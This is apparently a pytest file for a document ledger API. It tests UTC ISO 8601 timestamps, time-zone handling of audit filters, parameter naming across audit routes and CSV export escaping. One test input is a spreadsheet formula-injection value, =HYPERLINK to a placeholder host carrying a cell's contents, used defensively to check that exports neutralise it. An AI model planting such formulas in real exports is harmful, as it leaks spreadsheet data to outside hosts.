"""Times, one convention (issue 12.5): ISO 8601 UTC with Z in every answer and export, offsets
honoured and bare times read as UTC in filters whatever the server's time zone, the same
parameter names on every audit route; and exports safe to open in a spreadsheet (12.3)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import time
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from ledger.index import read_export
from tests.api.conftest import Service

pytestmark = pytest.mark.chain

ISO_Z = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$")


@pytest.fixture
def kabul() -> Iterator[None]:
    """The server runs in Kabul's time zone (UTC+04:30)."""
    saved = os.environ.get("TZ")
    os.environ["TZ"] = "Asia/Kabul"
    time.tzset()
    try:
        yield
    finally:
        if saved is None:
            del os.environ["TZ"]
        else:
            os.environ["TZ"] = saved
        time.tzset()


def _times(node: object, found: list[tuple[str, object]], key: str = "") -> None:
    if isinstance(node, dict):
        for k, v in node.items():
            _times(v, found, k)
    elif isinstance(node, list):
        for v in node:
            _times(v, found, key)
    elif key.endswith(("_at", "_from", "_until", "time")) or key == "at":
        found.append((key, node))


def assert_iso(body: object) -> int:
    found: list[tuple[str, object]] = []
    _times(body, found)
    for key, value in found:
        assert value is None or (isinstance(value, str) and ISO_Z.match(value)), (key, value)
    return len(found)


def test_answers_give_times_in_iso_utc(svc: Service) -> None:
    _, rec = svc.registered(ref="SMGS-TIMES-1")
    sha = rec["sha256"]
    customs = svc.auth("customs")
    r = svc.http.post(
        f"/v1/documents/{sha}/attestations", json={"verdict": "held"}, headers=customs
    )
    assert r.status_code == 201, r.text
    svc.indexed(sha)
    auditor = svc.auth("auditor")
    answers = [
        rec,
        r.json(),
        svc.http.get(f"/v1/documents/{sha}").json(),
        svc.verdict(sha),
        svc.http.get(
            "/v1/audit/documents", params={"consignment_ref": "SMGS-TIMES-1"}, headers=auditor
        ).json(),
        svc.http.get("/v1/audit/attestations", params={"sha256": sha}, headers=auditor).json(),
        svc.http.get(
            "/v1/audit/documents.json", params={"consignment_ref": "SMGS-TIMES-1"}, headers=auditor
        ).json(),
        svc.http.get("/v1/admin/organisations", headers=svc.auth("admin")).json(),
        svc.http.get("/health").json(),
    ]
    for body in answers:
        assert assert_iso(body) > 0, body


def test_bare_times_are_utc_and_offsets_are_honoured(svc: Service, kabul: None) -> None:
    """With TZ=Asia/Kabul a bare time was read as Kabul time: the window moved 4 h 30."""
    _, rec = svc.registered(ref="SMGS-TIMES-2")
    svc.indexed(rec["sha256"])
    at = datetime.fromisoformat(rec["registered_at"].replace("Z", "+00:00"))
    auditor = svc.auth("auditor")

    def found(**window: str) -> bool:
        params = {"consignment_ref": "SMGS-TIMES-2", **window}
        r = svc.http.get("/v1/audit/documents", params=params, headers=auditor)
        assert r.status_code == 200, r.text
        return [d["sha256"] for d in r.json()["items"]] == [rec["sha256"]]

    bare = at.replace(tzinfo=None)
    second = timedelta(seconds=1)
    assert found(**{"from": bare.isoformat(), "to": (bare + second).isoformat()})
    assert not found(**{"from": (bare + second).isoformat()})
    assert not found(to=bare.isoformat())
    kabul_time = at.astimezone(datetime.now().astimezone().tzinfo)
    assert kabul_time.utcoffset() == timedelta(hours=4, minutes=30)
    assert found(**{"from": kabul_time.isoformat(), "to": (kabul_time + second).isoformat()})
    assert found(**{"from": at.strftime("%Y-%m-%dT%H:%M:%SZ")})
    # the attestations route and the daily counts read their windows alike
    day = at.date().isoformat()
    r = svc.http.get("/v1/audit/stats/daily", params={"from": day}, headers=auditor)
    assert r.status_code == 200 and day in [d["day"] for d in r.json()["days"]], r.text
    r = svc.http.get(
        "/v1/audit/stats/daily",
        params={"from": (bare + timedelta(days=1)).date().isoformat()},
        headers=auditor,
    )
    assert day not in [d["day"] for d in r.json()["days"]]


def test_every_audit_route_names_its_window_from_and_to(svc: Service) -> None:
    schema = svc.http.get("/openapi.json").json()
    for path, operations in schema["paths"].items():
        if not path.startswith("/v1/audit/"):
            continue
        names = {p["name"] for p in operations["get"].get("parameters", [])}
        assert not names & {"time_from", "time_to", "since", "until"}, (path, names)
        if path not in ("/v1/audit/stats/doc-types", "/v1/audit/organisations"):
            assert {"from", "to"} <= names, (path, names)


def unix(text: str) -> int:
    return int(datetime.fromisoformat(text.replace("Z", "+00:00")).timestamp())


FORMULA = '=HYPERLINK("http://x/?"&A1)'


def test_exports_are_versioned_iso_and_safe_in_a_spreadsheet(svc: Service, tmp_path: Path) -> None:
    """Issue 12.3: a consignment reference that is a formula was exported verbatim."""
    _, rec = svc.registered(ref=FORMULA)
    _, plain = svc.registered(ref="'quoted")
    svc.indexed(rec["sha256"])
    svc.indexed(plain["sha256"])
    auditor = svc.auth("auditor")
    for ref, record in ((FORMULA, rec), ("'quoted", plain)):
        r = svc.http.get(
            "/v1/audit/documents", params={"consignment_ref": ref, "format": "csv"}, headers=auditor
        )
        assert r.status_code == 200 and r.headers["x-export-version"] == "2"
        (row,) = list(csv.DictReader(io.StringIO(r.text)))
        assert row["consignment_ref"] == "'" + ref  # a spreadsheet shows it as text
        assert ISO_Z.match(row["registered_at"]), row
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@")), row
        # the consistency checker reads it back as it was registered
        path = tmp_path / "export.csv"
        path.write_text(r.text)
        (back,) = list(read_export(path))
        assert back.consignment_ref == ref and back.fingerprint == record["sha256"]
        assert back.registered_at == unix(record["registered_at"])
    r = svc.http.get(
        "/v1/audit/documents.json", params={"consignment_ref": FORMULA}, headers=auditor
    )
    assert r.headers["x-export-version"] == "2"
    body = r.json()
    assert body["export_version"] == 2 and body["items"][0]["consignment_ref"] == FORMULA
    path = tmp_path / "export.json"
    path.write_text(json.dumps(body))
    assert [d.fingerprint for d in read_export(path)] == [rec["sha256"]]
    # a version 1 export (a bare array, Unix seconds) still reads
    item = body["items"][0]
    old = {**item, "registered_at": unix(item["registered_at"])}
    path.write_text(json.dumps([old]))
    assert [d.registered_at for d in read_export(path)] == [old["registered_at"]]
